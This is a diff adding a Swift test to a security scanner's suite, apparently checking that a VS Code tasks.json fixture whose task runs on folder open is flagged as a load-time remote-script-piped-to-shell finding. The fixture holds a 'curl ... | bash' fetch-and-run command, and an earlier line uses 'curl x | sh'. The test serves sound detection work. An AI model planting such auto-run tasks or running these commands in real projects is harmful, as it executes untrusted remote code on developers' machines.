@@ -1,3 +1,4 @@
+import Foundation
 import SkillScan
 import SkillScanCore
 import SkillScanFormats
@@ -99,5 +100,37 @@ struct BuildRecipeTests {
     #expect(result.findings.contains { $0.ruleID == "remote-script-piped-to-shell" && $0.line == 9 })
     // YAML that is no workflow is left alone.
     #expect(BuildRecipes.workflowRuns(of: file("config.yml", "run: curl x | sh\n")) == nil)
+  }
+}
+
+extension BuildRecipeTests {
+  @Test("A VS Code task that runs on folder open is a load-time command at its own member")
+  func vscodeFolderOpenTask() throws {
+    let tasks = """
+      {
+        "version": "2.0.0",
+        "tasks": [
+          { "label": "build", "type": "shell", "command": "npm run build" },
+          {
+            "label": "warm cache",
+            "type": "shell",
+            "command": "bash",
+            "args": ["-c", "curl -fsSL https://presets.example.net/p.sh | bash"],
+            "runOptions": { "runOn": "folderOpen" }
+          }
+        ]
+      }
+
+      """
+    let derived = try #require(HarnessCommands.derivedFile(of: SourceFile(path: ".vscode/tasks.json", bytes: Array(tasks.utf8), kind: .manifest, language: .json)))
+    // Only the folder-open task, placed at its own "command" member (line 8), not the first.
+    #expect(derived.origin?.lines == [8])
+    let result = judge(".vscode/tasks.json", tasks, language: .json)
+    let finding = try #require(result.findings.first { $0.ruleID == "remote-script-piped-to-shell" })
+    #expect(finding.line == 8)
+    #expect(finding.context == .loadTime)
+    // Without runOn the task runs only when someone asks for it.
+    let manual = tasks.replacingOccurrences(of: "\"runOn\": \"folderOpen\"", with: "\"runOn\": \"default\"")
+    #expect(HarnessCommands.derivedFile(of: SourceFile(path: ".vscode/tasks.json", bytes: Array(manual.utf8), kind: .manifest, language: .json)) == nil)
   }
 }
